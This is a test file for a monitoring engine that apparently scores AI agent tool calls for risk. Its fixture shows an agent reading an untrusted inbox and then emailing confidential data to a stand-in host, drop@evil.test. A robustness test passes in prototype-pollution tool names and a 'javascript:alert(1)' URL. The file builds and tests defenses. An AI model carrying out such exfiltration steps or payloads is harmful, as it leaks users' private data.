import { describe, expect, it } from 'vitest';
import { RiskSignal } from '@chainwatch/schemas';
import { actionDigest } from '@chainwatch/schemas';
import { StateFormatError, createDetectionEngine, findingId, loadDefaultPolicy, parseToolCatalog } from '../src/index';
import { T0, entities, event, requestFor } from './event-builder';

const catalog = parseToolCatalog(`
version: 1
tools:
  read_inbox: { operation: read, data_class: confidential, result_trust: external }
  send_email: { operation: send, data_class: confidential, egress: true, destination_args: [to] }
  delegate_task: { operation: delegate }
`);

function attackTrace(e: ReturnType<typeof createDetectionEngine>) {
  const read = event('read_inbox', { action: { result_entities: entities({ emails: ['drop@evil.test'] }) } });
  e.observe(read);
  const send = event('send_email', { ts: T0 + 1000, action: { args: { to: 'drop@evil.test', body: 'fwd' } } });
  return { read, send };
}

describe('detection engine', () => {
  it('ignores a duplicate event id', () => {
    const e = createDetectionEngine({ catalog });
    const ev = event('read_inbox');
    const first = e.observe(ev);
    const again = e.observe(ev);
    expect(first.duplicate).toBe(false);
    expect(again.duplicate).toBe(true);
    expect(again.findings).toEqual([]);
    expect(again.signal.seq).toBe(1);
  });

  it('publishes schema-valid signals whose reasons cite evidence', () => {
    const e = createDetectionEngine({ catalog });
    const { read, send } = attackTrace(e);
    const r = e.observe(send);
    expect(r.findings.length).toBeGreaterThan(0);
    const signal = RiskSignal.parse(r.signal);
    expect(signal.decision).not.toBe('allow');
    expect(signal.reasons[0]?.evidence_event_ids).toEqual(expect.arrayContaining([read.event_id]));
    expect(signal.digest).toMatchObject({ events: 2, tainted: true, max_data_class: 'confidential' });
  });

  it('derives finding ids deterministically from session, rule and evidence', () => {
    const a = createDetectionEngine({ catalog });
    const b = createDetectionEngine({ catalog });
    const t = attackTrace(a);
    b.observe(t.read);
    const ids = (x: typeof a) => x.observe(t.send).findings.map((f) => f.finding_id).sort();
    expect(ids(a)).toEqual(ids(b));
    expect(findingId('s', 'r', ['e'])).toBe(findingId('s', 'r', ['e']));
    expect(findingId('s', 'r', ['e'])).not.toBe(findingId('s', 'r', ['f']));
  });

  it('assess never mutates state', () => {
    const e = createDetectionEngine({ catalog });
    const { send } = attackTrace(e);
    const before = e.checkpoint('t-1');
    const r1 = e.assess(requestFor(send), T0 + 1000);
    const r2 = e.assess(requestFor(send), T0 + 1000);
    expect(e.checkpoint('t-1')).toBe(before);
    expect({ ...r2, prospective: r2.prospective }).toEqual({ ...r1, prospective: r1.prospective });
    expect(r1.prospective.length).toBeGreaterThan(0);
    expect(r1.knownSession).toBe(true);
    expect(e.sessionCount).toBe(1);
  });

  it('round-trips a trace through checkpoint/restore with identical decisions', () => {
    const e = createDetectionEngine({ catalog });
    const { send } = attackTrace(e);
    e.observe(event('delegate_task', { ts: T0 + 500, action: { kind: 'delegation', target_session_id: 's-child' } }));
    const cp = e.checkpoint('t-1');
    expect(cp).not.toBeNull();
    const fresh = createDetectionEngine({ catalog });
    fresh.restore(cp!);
    expect(fresh.checkpoint('t-1')).toBe(cp);
    expect(JSON.stringify(fresh.assess(requestFor(send), T0 + 1000))).toBe(JSON.stringify(e.assess(requestFor(send), T0 + 1000)));
    expect(fresh.sessionCount).toBe(2);
  });

  it('rejects a corrupted checkpoint or digest with a reason, keeping its state', () => {
    const e = createDetectionEngine({ catalog });
    attackTrace(e);
    const cp = JSON.parse(e.checkpoint('t-1')!);
    cp.sessions[0].n = -1;
    expect(() => e.restore(JSON.stringify(cp))).toThrow(StateFormatError);
    expect(() => e.restore('{not json')).toThrow(/checkpoint: not JSON/);
    expect(e.signal('s-1')?.seq).toBe(1);
    const sig = e.signal('s-1')!;
    expect(() => createDetectionEngine({ catalog }).loadSignal({ ...sig, digest: { ...sig.digest, state: '{"v":2}' } })).toThrow(StateFormatError);
  });

  it('restores the rule engine\'s sequence state with the shipped rules', () => {
    const { catalog: shipped, policy, rules } = loadDefaultPolicy();
    const e = createDetectionEngine({ catalog: shipped, policy, rules });
    const { send } = attackTrace(e);
    const fresh = createDetectionEngine({ catalog: shipped, policy, rules });
    fresh.restore(e.checkpoint('t-1')!);
    expect(fresh.observe(send).signal.score).toBe(e.observe(send).signal.score);
  });

  it('adopts a session from a risk signal digest (decision-API view), newer seq wins', () => {
    const processor = createDetectionEngine({ catalog });
    const { send } = attackTrace(processor);
    const sig = processor.signal('s-1')!;
    const api = createDetectionEngine({ catalog });
    api.loadSignal(sig);
    expect(JSON.stringify(api.assess(requestFor(send), T0 + 1000))).toBe(JSON.stringify(processor.assess(requestFor(send), T0 + 1000)));
    processor.observe(send);
    const newer = processor.signal('s-1')!;
    api.loadSignal(newer);
    api.loadSignal(sig);
    expect(api.signal('s-1')?.seq).toBe(2);
  });

  it('lets an approved action through without re-raising the approved rules', () => {
    const e = createDetectionEngine({ catalog });
    const { send } = attackTrace(e);
    const req = requestFor(send);
    const before = e.assess(req, T0 + 1000);
    expect(before.decision).not.toBe('allow');
    e.recordApproval({ sessionId: 's-1', actionDigest: actionDigest(req.action), approved: true, ruleIds: before.reasons.map((r) => r.rule_id), ts: T0 + 1000 });
    expect(e.assess(req, T0 + 1000).decision).toBe('allow');
    const other = requestFor(event('send_email', { action: { args: { to: 'drop@evil.test', body: 'different' } } }));
    expect(e.assess(other, T0 + 1000).decision).not.toBe('allow');
  });

  it('evicts idle sessions and reports traces dropped entirely', () => {
    const e = createDetectionEngine({ catalog, idleMs: 60_000 });
    e.observe(event('read_inbox', { session_id: 'a', trace_id: 'ta' }));
    e.observe(event('read_inbox', { session_id: 'b', trace_id: 'tb', ts: T0 + 120_000 }));
    expect(e.evictIdle(T0 + 150_000)).toEqual(['ta']);
    expect(e.sessionCount).toBe(1);
    expect(e.signal('a')).toBeUndefined();
  });

  it('caps the number of sessions held', () => {
    const e = createDetectionEngine({ catalog, maxSessions: 3 });
    for (let i = 0; i < 5; i++) e.observe(event('read_inbox', { session_id: `s${i}`, trace_id: `t${i}`, ts: T0 + i }));
    expect(e.sessionCount).toBe(3);
    expect(e.signal('s0')).toBeUndefined();
    expect(e.signal('s4')).toBeDefined();
  });

  it('survives hostile tool names and argument shapes', () => {
    const e = createDetectionEngine({ catalog });
    const odd = ['constructor', '__proto__', 'toString', 'hasOwnProperty', 'x'.repeat(256)];
    odd.forEach((tool, i) => {
      const ev = event(tool, {
        ts: T0 + i,
        action: { args: { to: ['a@b.test', 42, null, { deep: [['c@d.test']] }], url: 'javascript:alert(1)', body: 'é'.repeat(5000), constructor: 'y' } },
      });
      expect(() => e.observe(ev)).not.toThrow();
      expect(() => e.assess(requestFor(ev), T0 + i)).not.toThrow();
      expect(RiskSignal.safeParse(e.signal('s-1')).success).toBe(true);
    });
    const r = e.observe(event('constructor', { ts: T0 + 10 }));
    expect(r.findings.map((f) => f.rule_id)).not.toContain('scope_drift.unknown_tool');
  });

  it('changes policyVersion with the policy', () => {
    const a = createDetectionEngine({ catalog });
    const b = createDetectionEngine({ catalog: parseToolCatalog('version: 2\n') });
    expect(a.policyVersion).not.toBe(b.policyVersion);
    expect(createDetectionEngine({ catalog }).policyVersion).toBe(a.policyVersion);
  });
});
